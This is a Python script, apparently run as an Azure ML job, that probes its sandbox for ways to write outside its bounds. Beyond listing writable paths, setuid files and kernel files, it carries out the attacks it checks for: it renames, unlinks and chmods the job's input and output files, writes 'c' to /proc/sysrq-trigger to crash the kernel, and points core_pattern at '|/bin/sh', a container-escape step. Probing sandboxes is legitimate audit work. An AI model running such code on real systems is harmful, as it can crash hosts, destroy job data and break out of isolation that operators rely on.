"""Tries to write, everywhere: every directory, every file that looks writable, /in, /out, and the kernel's files."""

import errno
import json
import os
import stat

import pandas as pd

KERNEL = ("/proc", "/sys")


def attempt(action, *arguments, **options):
    try:
        action(*arguments, **options)
    except OSError as e:
        return errno.errorcode.get(e.errno, type(e).__name__)
    return "done"


def create(path):
    os.close(os.open(path, os.O_CREAT | os.O_EXCL | os.O_WRONLY))


def write(path, text="0"):
    with open(path, "w") as file:
        file.write(text)


def walk():
    """Every directory and file outside the kernel's trees: what could be made in it, what it is."""
    created, entered, writable, setuid, capable, devices = [], 0, [], [], [], []
    for directory, _, names in os.walk("/"):
        if directory.startswith(KERNEL):
            continue
        entered += 1
        if attempt(create, f"{directory}/.probe") == "done":
            created.append(directory)
            os.unlink(f"{directory}/.probe")
        for name in names:
            path = f"{directory}/{name}"
            status = os.lstat(path)
            if stat.S_ISCHR(status.st_mode) or stat.S_ISBLK(status.st_mode):
                devices.append(path)
            if not stat.S_ISREG(status.st_mode):
                continue
            if os.access(path, os.W_OK):
                writable.append(path)
            if status.st_mode & (stat.S_ISUID | stat.S_ISGID):
                setuid.append(path)
            if "security.capability" in os.listxattr(path):
                capable.append(path)
    return {"created": created, "entered": entered, "writable": writable, "setuid": setuid, "capable": capable,
            "devices": devices}  # fmt: skip


def kernel_files():
    """Every file of /proc/sys and /sys that opens for writing."""
    opened = []
    for top in ("/proc/sys", "/proc/irq", "/proc/bus", "/proc/fs", "/sys"):
        for directory, _, names in os.walk(top):
            for name in names:
                if attempt(lambda p=f"{directory}/{name}": os.close(os.open(p, os.O_WRONLY))) == "done":
                    opened.append(f"{directory}/{name}")
    return opened


def tamper(directory, file):
    """Whatever could put another file in the place of this one, or beside it."""
    path, other = f"{directory}/{file}", f"{directory}/other"
    create("/work/own")
    found = {
        "add": attempt(create, other),
        "add unnamed": attempt(os.open, directory, os.O_TMPFILE | os.O_RDWR),
        "mkdir": attempt(os.mkdir, other),
        "fifo": attempt(os.mkfifo, other),
        "rename": attempt(os.rename, path, other),
        "move away": attempt(os.rename, path, "/work/taken"),
        "move over": attempt(os.rename, "/work/own", path),
        "unlink": attempt(os.unlink, path),
        "link beside": attempt(os.link, path, other),
        "link away": attempt(os.link, path, "/work/linked"),
        "link by descriptor": attempt(os.link, f"/proc/self/fd/{os.open(path, os.O_RDONLY)}", other),
        "link over": attempt(os.link, "/work/own", other),
        "symlink": attempt(os.symlink, "/etc/passwd", other),
        "chmod": attempt(os.chmod, path, 0o6777),
        "chmod the directory": attempt(os.chmod, directory, 0o777),
        "chown": attempt(os.chown, path, os.getuid(), os.getgid()),
        "xattr": attempt(os.setxattr, path, "user.note", b"x"),
        "remove the directory": attempt(os.rmdir, directory),
        "rename the directory": attempt(os.rename, directory, "/work/directory"),
    }
    os.unlink("/work/own")
    return found


def azureml_main(dataframe1, dataframe2):
    found = {
        "walk": walk(),
        "kernel": kernel_files(),
        "in": tamper("/in", "job.json") | {"write": attempt(os.open, "/in/job.json", os.O_WRONLY)},
        "out": tamper("/out", "result"),
        "out files": {name: os.access(f"/out/{name}", os.W_OK) for name in sorted(os.listdir("/out"))},
        "oom score": attempt(write, "/proc/self/oom_score_adj", "-1000"),
        "sysrq": attempt(write, "/proc/sysrq-trigger", "c"),
        "core pattern": attempt(write, "/proc/sys/kernel/core_pattern", "|/bin/sh"),
        "uid map": attempt(write, "/proc/self/uid_map", "0 0 1"),
        "remount": attempt(os.open, "/sys/fs/cgroup/memory/memory.limit_in_bytes", os.O_WRONLY),
        "terminal": attempt(os.open, "/dev/ptmx", os.O_RDWR),
        "message queue": attempt(create, "/dev/mqueue/queue"),
        "work": attempt(write, "/work/plain"),
        "work executable": attempt(write, "/work/program", "#!/bin/sh\nexit 0\n"),
        "shm": attempt(write, "/dev/shm/plain"),
        "tmp": [attempt(create, f"{place}/probe") for place in ("/tmp", "/var/tmp", "/run", "/run/lock")],
    }
    os.chmod("/work/program", 0o755)
    found["run from work"] = os.system("/work/program")
    return pd.DataFrame({"probe": list(found), "finding": [json.dumps(value) for value in found.values()]})
